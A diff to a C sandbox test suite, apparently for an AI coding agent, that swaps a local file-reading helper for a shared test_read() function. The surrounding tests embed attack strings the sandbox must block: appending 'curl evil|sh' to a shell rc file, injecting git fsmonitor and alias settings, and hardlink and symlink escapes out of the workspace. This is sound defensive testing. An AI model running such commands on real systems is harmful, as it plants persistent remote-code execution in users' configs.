@@ -24,6 +24,7 @@
 #include "util/fsutil.h"
 #include "util/xalloc.h"
 #include "tests/check-run.h"
+#include "tests/test-fs.h"
 
 /* Probed once in main() before any test forks; read-only afterwards. */
 static struct sandbox_caps caps;
@@ -39,17 +40,6 @@ put(const char *path, const char *text)
 	ck_assert_ptr_nonnull(f);
 	fputs(text, f);
 	fclose(f);
-}
-
-static char *
-slurp(const char *path)
-{
-	struct buf b = BUF_INIT;
-	if (fs_read_file(path, 0, &b) != C_OK) {
-		buf_free(&b);
-		return NULL;
-	}
-	return buf_steal(&b);
 }
 
 static bool
@@ -298,7 +288,7 @@ START_TEST(sb_hardlink_escape_bash)
 	NEED_TOPLEVEL();
 	cmd = xasprintf("ln %s hl && echo pwned >> hl", t);
 	attack_and_twin(cmd, "echo a > f1 && ln f1 f2 && echo b >> f2 && grep -q b f1");
-	s = slurp(t);
+	s = test_read(t);
 	ck_assert_str_eq(s, "original\n");
 	free(s);
 	free(cmd);
@@ -323,7 +313,7 @@ START_TEST(sb_git_config_readonly)
 	NEED_MOUNTNS();
 	attack_and_twin("printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
 			"printf '[core]\\n' >> config.ini");
-	s = slurp(c);
+	s = test_read(c);
 	ck_assert_str_eq(s, "[core]\n");
 	free(s);
 	free(c);
@@ -390,7 +380,7 @@ START_TEST(sb_conch_symlink_kept)
 	ck_assert_int_gt(n, 0);
 	target[n] = '\0';
 	ck_assert_str_eq(target, "conch-real");
-	s = slurp(cfg);
+	s = test_read(cfg);
 	ck_assert_str_eq(s, "{}\n");
 	free(s);
 	free(cfg);
@@ -424,11 +414,11 @@ START_TEST(sb_git_file_target_readonly)
 	put(g, "gitdir: realgit\n");
 	attack_and_twin("echo '[alias] x = !id' >> realgit/config",
 			"echo ok > realgit.txt");
-	s = slurp(cfg);
+	s = test_read(cfg);
 	ck_assert_str_eq(s, "[core]\n");
 	free(s);
 	attack_and_twin("echo 'gitdir: /tmp' > .git", "echo ok > git.txt");
-	s = slurp(g);
+	s = test_read(g);
 	ck_assert_str_eq(s, "gitdir: realgit\n");
 	free(s);
 	free(real);
@@ -455,7 +445,7 @@ START_TEST(sb_shell_rc_readonly)
 	NEED_TOPLEVEL();
 	cmd = xasprintf("echo 'curl evil|sh' >> %s", rc);
 	attack_and_twin(cmd, "echo 'alias x=y' >> my.rc");
-	s = slurp(rc);
+	s = test_read(rc);
 	ck_assert_str_eq(s, "# rc\n");
 	free(s);
 	free(cmd);
@@ -473,7 +463,7 @@ START_TEST(sb_conch_memory_and_skills_readonly)
 	free(cmd);
 	cmd = xasprintf("mkdir -p %s && echo x > %s/SKILL.md", sk, sk);
 	attack_and_twin(cmd, "mkdir -p skills/ok && echo x > skills/ok/SKILL.md");
-	s = slurp(mem);
+	s = test_read(mem);
 	ck_assert_str_eq(s, "memory\n");
 	ck_assert(!exists(sk));
 	free(s);
@@ -534,7 +524,7 @@ START_TEST(sb_hardlink_protected_file)
 	NEED_TOPLEVEL();
 	attack_and_twin("ln .git/config cfg && echo evil >> cfg",
 			"echo a > plain && ln plain plain2 && echo b >> plain2");
-	s = slurp(c);
+	s = test_read(c);
 	ck_assert_str_eq(s, "[core]\n");
 	free(s);
 	free(c);
@@ -1132,7 +1122,7 @@ START_TEST(sb_beneath_symlink_escape)
 	ck_assert_int_eq(symlink(f, l), 0);
 	ck_assert_int_eq(sandbox_write_beneath(ws, "t", "x", 1, 0644, false, &why),
 			 C_ERR_PERM);
-	s = slurp(f);
+	s = test_read(f);
 	ck_assert_str_eq(s, "original\n");
 	free(s);
 	ck_assert_int_eq(sandbox_write_beneath(ws, "../outside/pwned", "x", 1, 0644,
@@ -1144,7 +1134,7 @@ START_TEST(sb_beneath_symlink_escape)
 					       true, &why), C_OK);
 	{
 		char *np = P(ws, "a/b/new.txt");
-		s = slurp(np);
+		s = test_read(np);
 		ck_assert_str_eq(s, "new\n");
 		free(s);
 		free(np);
@@ -1174,7 +1164,7 @@ START_TEST(sb_beneath_hardlink_fifo_device)
 			 C_ERR_PERM);
 	ck_assert_int_eq(sandbox_open_beneath(ws, "hl", O_WRONLY | O_TRUNC, 0, &fd, &why),
 			 C_ERR_PERM);
-	s = slurp(t);
+	s = test_read(t);
 	ck_assert_str_eq(s, "original\n");
 	free(s);
 	ck_assert_int_eq(mkfifo(fifo, 0644), 0);
@@ -1290,7 +1280,7 @@ START_TEST(fb_writes_confined)
 	ck_assert(!exists(s));
 	free(s);
 	cmd = P(ws, ".git/config");
-	s = slurp(cmd);
+	s = test_read(cmd);
 	ck_assert_str_eq(s, "[core]\n");
 	free(s);
 	free(cmd);
